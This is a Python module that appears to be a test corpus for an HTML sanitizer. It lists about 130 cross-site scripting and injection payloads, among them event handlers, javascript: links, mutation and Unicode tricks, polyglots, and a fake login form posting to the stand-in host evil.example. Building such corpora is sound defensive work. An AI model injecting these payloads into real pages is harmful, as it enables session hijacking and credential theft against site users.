"""What somebody may write who wants a page of ours to run what they wrote: each kind of trick, in words of our own.

All of it calls ``pwned``, asks `ELSEWHERE` for something, or changes where the page or its forms lead.
"""

from __future__ import annotations

ELSEWHERE = "https://evil.example"
RUN = "pwned()"

_PLAIN = [
    "<script>pwned()</script>",
    "<SCRIPT>pwned()</SCRIPT>",
    "<script/x>pwned()</script>",
    "<script\n>pwned()</script >",
    f"<script src={ELSEWHERE}/a.js></script>",
    f"<script src=//{ELSEWHERE[8:]}/a.js></script>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<<script>pwned();//<</script>",
    '<script type="module">pwned()</script>',
    "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</style><script>pwned()</script>",
    "--><script>pwned()</script><!--",
    "]]><script>pwned()</script>",
    "<noscript><p title='</noscript><script>pwned()</script>'>",
    "<template><script>pwned()</script></template>",
]
_HANDLERS = [
    "<img src=x onerror=pwned()>",
    "<img/src=x/onerror=pwned()>",
    "<img src=x:x onerror\n=\npwned()>",
    "<img src=x oNeRrOr=pwned()>",
    "<img src='x' onerror='pwned()'",
    '<img src=x onerror="&#112;wned()">',
    "<img src=x onerror=\x0bpwned()>",
    "<svg onload=pwned()>",
    "<svg/onload=pwned()>",
    "<body onload=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()>",
    "<textarea autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()><summary>x</summary></details>",
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()>",
    "<marquee onstart=pwned()>x</marquee>",
    "<p onpointerenter=pwned() style=position:fixed;inset:0>over all</p>",
    "<p id=x tabindex=1 onfocusin=pwned() autofocus>x</p>",
    "<style>@keyframes k{}</style><p style=animation-name:k onanimationstart=pwned()>x</p>",
]
_FRAMES = [
    "<iframe src=javascript:pwned()></iframe>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    f"<iframe src={ELSEWHERE}/frame></iframe>",
    "<object data=javascript:pwned()></object>",
    f"<object data={ELSEWHERE}/o.swf></object>",
    f"<embed src={ELSEWHERE}/e.swf>",
    f"<base href={ELSEWHERE}/>",
    f"<link rel=stylesheet href={ELSEWHERE}/a.css>",
    f"<link rel=prefetch href={ELSEWHERE}/p>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/'>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    f"<form action={ELSEWHERE}/steal><input name=form><button>Log in</button></form>",
    "<button form=say formaction=javascript:pwned()>Say it</button>",
    f"<img src={ELSEWHERE}/pixel.png>",
    f"<img srcset='{ELSEWHERE}/a.png 1x'>",
    f"<video poster={ELSEWHERE}/p.png></video>",
]
_SVG = [
    "<svg><script>pwned()</script></svg>",
    "<svg><script href=data:,pwned()></script></svg>",
    "<svg><a xlink:href=javascript:pwned()><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:pwned() /><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.pwned()</script>'></foreignObject></svg>",
    f"<svg><use href={ELSEWHERE}/s.svg#x></use></svg>",
    f"<svg><image href={ELSEWHERE}/i.png></image></svg>",
]
_MUTATIONS = [  # harmless where they are parsed, and something else once they are written and parsed again
    '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
    "<math><mtext><table><mglyph><style><math><img src onerror=pwned()></style></table>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
    "<svg><style>&lt;/style&gt;&lt;img src=x onerror=pwned()&gt;</style></svg>",
    "<noscript><style></noscript><img src=x onerror=pwned()>",
    '<xmp><p title="</xmp><img src=x onerror=pwned()>">',
    "<listing>&lt;img src=x onerror=pwned()&gt;</listing>",
    "<option><style></option></select><img src=x onerror=pwned()></style>",
    "<a href='x'><table><a href='javascript:pwned()'>x",
    '<p id="</p><img src=x onerror=pwned()>">',
    "<!--><img src=x onerror=pwned()>-->",
    "<!--!><img src=x onerror=pwned()>",
    "<![CDATA[><img src=x onerror=pwned()>]]>",
    "<?xml ?><img src=x onerror=pwned()>",
]
_LINKS = [
    "<a href=javascript:pwned()>x</a>",
    "<a href='JaVaScRiPt:pwned()'>x</a>",
    "<a href=' javascript:pwned()'>x</a>",
    "<a href='java\tscript:pwned()'>x</a>",
    "<a href='java\nscript:pwned()'>x</a>",
    "<a href='&#106;avascript:pwned()'>x</a>",
    "<a href='javascript&colon;pwned()'>x</a>",
    "<a href='\x01javascript:pwned()'>x</a>",
    "<a href='vbscript:pwned()'>x</a>",
    "<a href='data:text/html,<script>pwned()</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+'>x</a>",
    "<a href='blob:https://attic.example/x'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='https://attic.example@evil.example/'>x</a>",
    "<a href='/logout'>x</a>",
    "<a href='#' target=_blank ping=https://evil.example/ping>x</a>",
    "[x](javascript:pwned())",
    "javascript:pwned()",
    "javascript://attic.example/%0apwned()",
    "data:text/html,<script>pwned()</script>",
]
_BREAKING = [
    '"><script>pwned()</script>',
    "'><script>pwned()</script>",
    '" onmouseover="pwned()" x="',
    "' onfocus='pwned()' autofocus tabindex='1",
    '" autofocus onfocus=pwned() "',
    "` onerror=`pwned()",
    "&quot;&gt;&lt;script&gt;pwned()&lt;/script&gt;",
    '" style="background:url(https://evil.example/c)" x="',
    "x\"y'z<w>&amp;",
]
_STYLES = [
    "<style>*{background:url(https://evil.example/s)}</style>",
    "<style>@import 'https://evil.example/i.css';</style>",
    "<p style='background:url(https://evil.example/b)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9'>over all</p>",
    "<p style='width:expression(pwned())'>x</p>",
    "<p style='-moz-binding:url(https://evil.example/x#y)'>x</p>",
    "<p class='unseen skip drawer'>somebody's classes</p>",
    "<p style='behavior:url(https://evil.example/x.htc)'>x</p>",
]
_TEMPLATES = [
    "{{ 7 * 191 }}",
    "{% include 'login.html' %}",
    "${7*191}",
    "#{7*191}",
    "<%= 7*191 %>",
    "{{constructor.constructor('pwned()')()}}",
    "%(name)s %d",
]
_UNICODE = [
    "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
    "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
    "<\u0000script>pwned()</script>",
    "<scr\u200bipt>pwned()</script>",
    "\u202e<script>pwned()</script>",
    "<img src=x \u2028onerror=pwned()>",
    "\ufeff<script>pwned()</script>",
    "\u2066\u2067\u202d<b>turned around</b>",
    "<İmg src=x onerror=pwned()>",
]
_POLYGLOTS = [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=pwned() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd=pwned()//>\\x3e",
    "'\"--></style></script></textarea></title><svg onload=pwned()><img src=x onerror=pwned()>",
    "<a id=x name=form><a id=x name=body href=javascript:pwned()>clobbered</a>",
    "<p>" * 400 + "<img src=x onerror=pwned()>",
    "<b " + " ".join(f"a{number}=1" for number in range(200)) + " onclick=pwned()>x</b>",
]

CORPUS = (
    *_PLAIN,
    *_HANDLERS,
    *_FRAMES,
    *_SVG,
    *_MUTATIONS,
    *_LINKS,
    *_BREAKING,
    *_STYLES,
    *_TEMPLATES,
    *_UNICODE,
    *_POLYGLOTS,
)
